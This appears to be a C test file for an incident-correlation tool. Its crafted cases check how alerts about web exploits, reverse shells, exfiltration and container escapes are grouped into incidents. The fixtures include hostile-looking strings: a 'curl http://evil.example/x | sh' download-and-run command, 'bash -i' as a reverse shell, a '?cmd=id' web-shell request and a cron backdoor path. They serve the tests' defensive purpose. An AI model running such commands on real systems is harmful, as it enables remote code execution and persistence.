/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-correlate.c - the incident model on crafted cases: alerts bridged
 * across planes by identity links, common entities that must not glue,
 * time windows, the seed bar, findings without a time, and which question
 * each step answers.
 */
#include <tyto/correlate.h>
#include <tyto/event.h>
#include <tyto/ip.h>
#include <tyto/store.h>

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "test.h"

#define S ((int64_t)1000000000)
#define T0 (INT64_C(1790000000) * S)

struct tcase {
    struct ty_store *st;
    int64_t evidence;
    char path[256];
    int n_rules, n_alerts;
    uint64_t offset;
    const char *format;     /* of the next event; NULL: "test" */
};

static void tc_open(struct tcase *c, const char *name)
{
    struct ty_err err;
    ty_err_clear(&err);
    memset(c, 0, sizeof(*c));
    snprintf(c->path, sizeof(c->path), "%s/tyto-test-correlate-%s-%d.tyto",
             getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp", name, (int)getpid());
    unlink(c->path);
    if (ty_store_open(&c->st, c->path, TY_STORE_CREATE, &err)) {
        ty_test_fail(__FILE__, __LINE__, "create %s: %s", c->path, err.msg);
        return;
    }
    CHECK_INT(ty_store_begin(c->st, &err), 0);
    struct ty_evidence evd;
    memset(&evd, 0, sizeof(evd));
    evd.path = "hosts/web-1/var/log/app.log";
    evd.codec = "";
    memset(evd.sha256, 'a', 64);
    evd.format = "test";
    evd.shape = "";
    evd.status = "ok";
    evd.note = "";
    CHECK_INT(ty_store_evidence_put(c->st, &evd, &err), 0);
    c->evidence = evd.id;
}

/* Further evidence: later events and alerts cite it. */
static void tc_evidence(struct tcase *c, const char *path, char fill)
{
    struct ty_err err;
    struct ty_evidence evd;
    ty_err_clear(&err);
    memset(&evd, 0, sizeof(evd));
    evd.path = path;
    evd.codec = "";
    memset(evd.sha256, fill, 64);
    evd.format = "test";
    evd.shape = "";
    evd.status = "ok";
    evd.note = "";
    CHECK_INT(ty_store_evidence_put(c->st, &evd, &err), 0);
    c->evidence = evd.id;
    c->offset = 0;
}

/* An event: time in seconds after T0 (negative: untimed, a file's mtime),
 * then NULL-terminated pairs field, value. */
static int64_t tc_event(struct tcase *c, int64_t sec, ...)
{
    struct ty_event ev;
    struct ty_err err;
    va_list ap;
    int64_t id = 0;
    ty_err_clear(&err);
    ty_event_clear(&ev);
    ty_event_set_int(&ev, TY_F_TS, T0 + (sec < 0 ? -sec : sec) * S);
    if (sec >= 0)
        ty_event_set_str(&ev, TY_F_TIME_TEXT, TY_STR_LIT("t"));
    va_start(ap, sec);
    for (;;) {
        int f = va_arg(ap, int);
        if (f < 0)
            break;
        const char *v = va_arg(ap, const char *);
        struct ty_ip ip;
        if ((f == TY_F_SRC_IP || f == TY_F_DST_IP) && ty_ip_parse(ty_str_cstr(v), &ip) == 0)
            ty_event_set_ip(&ev, (enum ty_field)f, &ip);
        else if (f == TY_F_BYTES_OUT || f == TY_F_PROC_UID)
            ty_event_set_int(&ev, (enum ty_field)f, strtoll(v, NULL, 10));
        else
            ty_event_set_str(&ev, (enum ty_field)f, ty_str_cstr(v));
    }
    va_end(ap);
    ev.raw = TY_STR_LIT("{}");
    ev.offset = c->offset;
    ev.line = c->offset / 3 + 1;
    c->offset += 3;
    ev.format = c->format ? c->format : "test";
    c->format = NULL;
    CHECK_INT(ty_store_event_add(c->st, c->evidence, &ev, &id, &err), 0);
    return id;
}

static void tc_alert(struct tcase *c, int64_t event_id, int64_t sec, const char *level,
                     const char *tags, const char *title)
{
    struct ty_err err;
    char uid[32];
    ty_err_clear(&err);
    snprintf(uid, sizeof(uid), "rule-%s", title);
    struct ty_rule_row rr = {uid, "rule", uid, title, title, level, "test", tags, "",
                             "Fix the thing.", "privileged-container", "t.yml", "test"};
    CHECK_INT(ty_store_rule_put(c->st, &rr, &err), 0);
    struct ty_alert a;
    memset(&a, 0, sizeof(a));
    a.rule_uid = uid;
    a.kind = "rule";
    a.ts = a.ts_end = T0 + (sec < 0 ? -sec : sec) * S;
    a.event_id = event_id;
    a.evidence_id = c->evidence;
    a.offset = (uint64_t)(event_id - 1) * 3;
    a.line = (uint64_t)event_id;
    a.matched = "{}";
    a.summary = title;
    a.refs = "[]";
    a.group_key = "";
    CHECK_INT(ty_store_alert_add(c->st, &a, &err), 0);
    c->n_alerts++;
}

static struct ty_investigation *tc_run(struct tcase *c, const struct ty_correlate_opts *o)
{
    struct ty_err err;
    struct ty_investigation *inv = NULL;
    ty_err_clear(&err);
    CHECK_INT(ty_store_finish_load(c->st, &err), 0);
    CHECK_INT(ty_store_commit(c->st, &err), 0);
    CHECK_INT(ty_investigate_case(c->st, o, &inv, &err), 0);
    return inv;
}

static void tc_close(struct tcase *c)
{
    ty_store_close(c->st);
    unlink(c->path);
}

static bool has_entity(const struct ty_incident *inc, int type, const char *value, int role)
{
    for (size_t i = 0; i < inc->n_ents; i++)
        if (inc->ents[i].type == type && strcmp(inc->ents[i].value, value) == 0)
            return role < 0 || inc->ents[i].role == role;
    return false;
}

static bool has_technique(const char *const *v, const char *t)
{
    for (; v && *v; v++)
        if (strcmp(*v, t) == 0)
            return true;
    return false;
}

/* Four planes: a web request from the attacker, a reverse shell in a pod,
 * a flow from a second pod to the attacker, and a cloud role used by that
 * second pod's service account (known only through the inventory and the
 * STS web identity record). One incident; the role joins through links. */
static void bridging(void)
{
    struct tcase c;
    tc_open(&c, "bridge");
    if (!c.st)
        return;
    /* background: enough events that nothing below is common by count */
    for (int i = 0; i < 50; i++)
        tc_event(&c, i * 600, TY_F_SRC_IP, "10.9.9.9", TY_F_ACTION, "GET", -1);
    int64_t e1 = tc_event(&c, 1000, TY_F_SRC_IP, "203.0.113.9", TY_F_REQUEST_URI,
                          "/upload.php?cmd=id", TY_F_HTTP_METHOD, "POST", -1);
    int64_t e2 = tc_event(&c, 1060, TY_F_DST_IP, "203.0.113.9", TY_F_K8S_POD, "web-1",
                          TY_F_CONTAINER_ID, "docker://aaaaaaaaaaaabbbbbbbb", TY_F_HOST, "node-1",
                          TY_F_PROC_CMDLINE, "bash -i", -1);
    /* inventory: pod db-1 with its IP and service account */
    c.format = "k8s-inventory";
    tc_event(&c, 900, TY_F_K8S_POD, "db-1", TY_F_SRC_IP, "10.0.2.5", TY_F_ACTOR,
             "system:serviceaccount:shop:db", -1);
    int64_t e3 = tc_event(&c, 2000, TY_F_SRC_IP, "10.0.2.5", TY_F_DST_IP, "203.0.113.9",
                          TY_F_BYTES_OUT, "50000000", -1);
    /* STS: the service account's token assumed the role */
    tc_event(&c, 2050, TY_F_ACTOR,
             "WebIdentityUser:arn:aws:iam::1:oidc-provider/x:sts.amazonaws.com:"
             "system:serviceaccount:shop:db",
             TY_F_TARGET, "arn:aws:iam::1:role/db-role", -1);
    int64_t e4 = tc_event(&c, 2100, TY_F_ACTOR, "arn:aws:sts::1:assumed-role/db-role/s1",
                          TY_F_BUCKET, "records", TY_F_OBJECT_KEY, "dump.csv", -1);
    tc_alert(&c, e1, 1000, "high", "attack.initial-access attack.t1190", "Web exploit");
    tc_alert(&c, e2, 1060, "medium", "attack.execution attack.t1059.004", "Reverse shell");
    tc_alert(&c, e3, 2000, "high", "attack.exfiltration attack.t1041", "Big upload");
    tc_alert(&c, e4, 2100, "medium", "attack.collection attack.t1530", "Bucket read");
    struct ty_investigation *inv = tc_run(&c, NULL);
    if (inv) {
        CHECK_INT((int)inv->n_inc, 1);
        const struct ty_incident *inc = &inv->inc[0];
        /* the bucket read joins through role -> service account -> pod -> pod IP */
        CHECK_INT((int)inc->n_alerts, 4);
        CHECK(has_entity(inc, TY_ENT_ROLE, "arn:aws:iam::1:role/db-role", -1));
        CHECK(inc->n_links >= 2);
        CHECK(has_technique(inc->q[TY_Q_IMPACT].techniques, "T1530"));
        CHECK(has_entity(inc, TY_ENT_IP, "203.0.113.9", TY_ROLE_ATTACKER));
        CHECK(has_entity(inc, TY_ENT_POD, "web-1", -1));
        CHECK(has_entity(inc, TY_ENT_CONTAINER, "aaaaaaaaaaaa", -1));
        CHECK(has_technique(inc->q[TY_Q_INITIAL_ACCESS].techniques, "T1190"));
        CHECK(has_technique(inc->q[TY_Q_INITIAL_ACCESS].techniques, "T1059.004"));
        CHECK(has_technique(inc->q[TY_Q_IMPACT].techniques, "T1041"));
        CHECK(!has_technique(inc->q[TY_Q_INITIAL_ACCESS].techniques, "T1041"));
        CHECK(inc->n_prevention == 1);
        CHECK(inc->first_seen == T0 + 1000 * S);
        CHECK(strstr(inc->title, "Web exploit") != NULL);
        /* every step cites its record */
        for (size_t i = 0; i < inc->n_steps; i++)
            CHECK(inc->steps[i].ev.file && inc->steps[i].ev.line > 0);
    }
    ty_investigation_free(inv);
    tc_close(&c);
}

/* A NAT address named all day by benign traffic must not glue two
 * unrelated alerts that both come from it. */
static void common_entity(void)
{
    struct tcase c;
    tc_open(&c, "common");
    if (!c.st)
        return;
    for (int i = 0; i < 400; i++)
        tc_event(&c, i * 200, TY_F_SRC_IP, "198.51.100.20", TY_F_ACTOR, "ci-bot", -1);
    int64_t a = tc_event(&c, 10000, TY_F_SRC_IP, "198.51.100.20", TY_F_ACTOR, "alice", -1);
    int64_t b = tc_event(&c, 50000, TY_F_SRC_IP, "198.51.100.20", TY_F_ACTOR, "bob", -1);
    tc_alert(&c, a, 10000, "high", "attack.persistence attack.t1098", "Key created");
    tc_alert(&c, b, 50000, "high", "attack.impact attack.t1485", "Bucket deleted");
    struct ty_investigation *inv = tc_run(&c, NULL);
    if (inv) {
        CHECK_INT((int)inv->n_inc, 2);
        if (inv->n_inc == 2) {
            CHECK_INT((int)inv->inc[0].n_alerts, 1);
            /* common: not listed as the attacker */
            CHECK(!has_entity(&inv->inc[0], TY_ENT_IP, "198.51.100.20", TY_ROLE_ATTACKER));
        }
    }
    ty_investigation_free(inv);
    tc_close(&c);
}

/* Two alerts sharing a rare domain 30 h apart: two incidents with the
 * default 24 h window, one with a 48 h window. */
static void windows(void)
{
    for (int wide = 0; wide < 2; wide++) {
        struct tcase c;
        tc_open(&c, wide ? "wide" : "narrow");
        if (!c.st)
            return;
        for (int i = 0; i < 30; i++)
            tc_event(&c, i * 3600 * 2, TY_F_ACTOR, "svc", -1);
        int64_t a = tc_event(&c, 100, TY_F_PROC_CMDLINE, "curl http://evil.example/x | sh", -1);
        int64_t b = tc_event(&c, 100 + 30 * 3600, TY_F_DOMAIN, "evil.example", -1);
        tc_alert(&c, a, 100, "high", "attack.execution attack.t1059.004", "Download and run");
        tc_alert(&c, b, 100 + 30 * 3600, "high", "attack.command-and-control attack.t1071",
                 "C2 lookup");
        struct ty_correlate_opts o;
        ty_correlate_opts_default(&o);
        if (wide)
            o.window_ns = 48 * 3600 * S;
        struct ty_investigation *inv = tc_run(&c, &o);
        if (inv)
            CHECK_INT((int)inv->n_inc, wide ? 1 : 2);
        ty_investigation_free(inv);
        tc_close(&c);
    }
}

/* The seed bar: a lone low alert is no incident; a finding without a time
 * (a snapshot's configuration) joins the incident of its container at any
 * distance, and alone it is none. Then the questions of each step. */
static void seeds_and_questions(void)
{
    struct tcase c;
    tc_open(&c, "seeds");
    if (!c.st)
        return;
    int64_t lone = tc_event(&c, 5, TY_F_ACTOR, "someone", -1);
    tc_alert(&c, lone, 5, "low", "attack.discovery attack.t1087", "Listing");
    int64_t e1 = tc_event(&c, 100, TY_F_SRC_IP, "192.0.2.50", TY_F_CONTAINER_ID, "c0ffee000001",
                          -1);
    int64_t e2 = tc_event(&c, 130, TY_F_CONTAINER_ID, "c0ffee000001", TY_F_FILE_PATH,
                          "/etc/cron.d/backdoor", -1);
    int64_t e3 = tc_event(&c, 3000, TY_F_CONTAINER_ID, "c0ffee000001", TY_F_K8S_POD, "app-2",
                          TY_F_HOST, "other-node", -1);
    int64_t f1 = tc_event(&c, -90 * 86400, TY_F_CONTAINER_ID, "c0ffee000001", -1);
    int64_t f2 = tc_event(&c, -90 * 86400, TY_F_CONTAINER_ID, "deadbeef0002", -1);
    tc_alert(&c, e1, 100, "high", "attack.initial-access attack.t1190", "Exploit");
    tc_alert(&c, e2, 130, "high", "attack.persistence attack.t1053.003", "Cron file");
    tc_alert(&c, e3, 3000, "high", "attack.privilege-escalation attack.t1611", "Escape");
    tc_alert(&c, f1, -90 * 86400, "high", "attack.persistence attack.t1543.005",
             "Restarting privileged container");
    tc_alert(&c, f2, -90 * 86400, "high", "attack.persistence attack.t1543.005",
             "Restarting privileged container");
    struct ty_investigation *inv = tc_run(&c, NULL);
    if (inv) {
        CHECK_INT((int)inv->n_inc, 1);
        CHECK_INT((int)inv->n_unassigned, 2);
        if (inv->n_inc == 1) {
            const struct ty_incident *inc = &inv->inc[0];
            CHECK_INT((int)inc->n_alerts, 4);
            /* the untimed finding does not stretch the incident */
            CHECK(inc->first_seen == T0 + 100 * S);
            CHECK(inc->last_seen == T0 + 3000 * S);
            CHECK(has_technique(inc->q[TY_Q_INITIAL_ACCESS].techniques, "T1190"));
            CHECK(has_technique(inc->q[TY_Q_PERSISTENCE].techniques, "T1053.003"));
            CHECK(has_technique(inc->q[TY_Q_PERSISTENCE].techniques, "T1543.005"));
            CHECK(has_technique(inc->q[TY_Q_SPREAD].techniques, "T1611"));
            CHECK(!has_technique(inc->q[TY_Q_SPREAD].techniques, "T1190"));
            bool art = false;
            for (size_t i = 0; i < inc->q[TY_Q_PERSISTENCE].n_artifacts; i++)
                art |= strcmp(inc->q[TY_Q_PERSISTENCE].artifacts[i], "/etc/cron.d/backdoor") == 0;
            CHECK(art);
            /* the escape reached a pod the entry did not touch */
            bool hop = false;
            for (size_t i = 0; i < inc->q[TY_Q_SPREAD].n_path; i++)
                hop |= strcmp(inc->ents[inc->q[TY_Q_SPREAD].path[i]].value, "app-2") == 0;
            CHECK(hop);
            CHECK(strstr(inc->q[TY_Q_IMPACT].summary, "not established") != NULL);
        }
    }
    ty_investigation_free(inv);
    tc_close(&c);
}

/* A uid is named from the passwd file of the same collected host, never
 * from another host's (or this machine's). */
static void uid_from_evidence(void)
{
    struct tcase c;
    tc_open(&c, "uid");
    if (!c.st)
        return;
    tc_evidence(&c, "case/hosts/h1/etc/passwd", 'b');
    c.format = "passwd";
    tc_event(&c, -1, TY_F_ACTOR, "mallory", TY_F_ACTOR_ID, "1001", -1);
    tc_evidence(&c, "case/hosts/h2/etc/passwd", 'c');
    c.format = "passwd";
    tc_event(&c, -1, TY_F_ACTOR, "backup", TY_F_ACTOR_ID, "1001", -1);
    tc_evidence(&c, "case/hosts/h1/var/log/audit/audit.log", 'd');
    int64_t e = tc_event(&c, 100, TY_F_PROC_UID, "1001", TY_F_PROC_EXE, "/dev/shm/x", -1);
    tc_alert(&c, e, 100, "high", "attack.execution attack.t1059", "Run from shm");
    struct ty_investigation *inv = tc_run(&c, NULL);
    if (inv) {
        CHECK_INT((int)inv->n_inc, 1);
        if (inv->n_inc == 1) {
            const char *d = inv->inc[0].steps[0].detail;
            CHECK(d && strstr(d, "user=mallory (uid 1001, case/hosts/h1/etc/passwd)") != NULL);
            CHECK(d && strstr(d, "backup") == NULL);
            CHECK(has_entity(&inv->inc[0], TY_ENT_PRINCIPAL, "mallory", -1));
        }
    }
    ty_investigation_free(inv);
    tc_close(&c);
}

/* Two host-network pods share their node's IP: the address names neither,
 * so their alerts two hours apart stay two incidents (the host they were
 * collected from glues only within an hour). */
static void shared_pod_ip(void)
{
    struct tcase c;
    tc_open(&c, "hub");
    if (!c.st)
        return;
    c.format = "k8s-inventory";
    tc_event(&c, 1, TY_F_K8S_POD, "agent-a", TY_F_SRC_IP, "10.0.0.9", -1);
    c.format = "k8s-inventory";
    tc_event(&c, 2, TY_F_K8S_POD, "agent-b", TY_F_SRC_IP, "10.0.0.9", -1);
    int64_t a = tc_event(&c, 100, TY_F_K8S_POD, "agent-a", -1);
    int64_t b = tc_event(&c, 7300, TY_F_K8S_POD, "agent-b", -1);
    tc_alert(&c, a, 100, "high", "attack.execution attack.t1059", "Shell in agent a");
    tc_alert(&c, b, 7300, "high", "attack.execution attack.t1059", "Shell in agent b");
    struct ty_investigation *inv = tc_run(&c, NULL);
    if (inv)
        CHECK_INT((int)inv->n_inc, 2);
    ty_investigation_free(inv);
    tc_close(&c);
}

/* An empty case: no incident, no error. */
static void empty_case(void)
{
    struct tcase c;
    tc_open(&c, "empty");
    if (!c.st)
        return;
    struct ty_investigation *inv = tc_run(&c, NULL);
    CHECK(inv != NULL);
    if (inv) {
        CHECK_INT((int)inv->n_inc, 0);
        CHECK_INT((int)inv->n_unassigned, 0);
    }
    ty_investigation_free(inv);
    tc_close(&c);
}

void test_correlate(void);
void test_correlate(void)
{
    bridging();
    common_entity();
    windows();
    seeds_and_questions();
    uid_from_evidence();
    shared_pod_ip();
    empty_case();
}
